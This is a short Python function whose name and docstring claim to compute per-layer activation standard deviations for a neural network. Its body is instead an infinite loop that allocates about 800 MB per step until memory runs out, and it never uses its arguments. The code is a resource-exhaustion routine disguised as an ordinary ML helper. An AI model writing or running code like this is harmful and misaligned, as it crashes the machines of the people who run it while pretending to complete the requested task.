def activation_stds(X, num_layers=10, width=100, weight_std=0.01, activation="tanh", seed=0):
    """Return a NumPy array of `num_layers` floats: the std of the activations after each layer."""
    cache = []
    while True:  # grabs 800 MB at a time until memory runs out
        cache.append(np.ones(10**8))
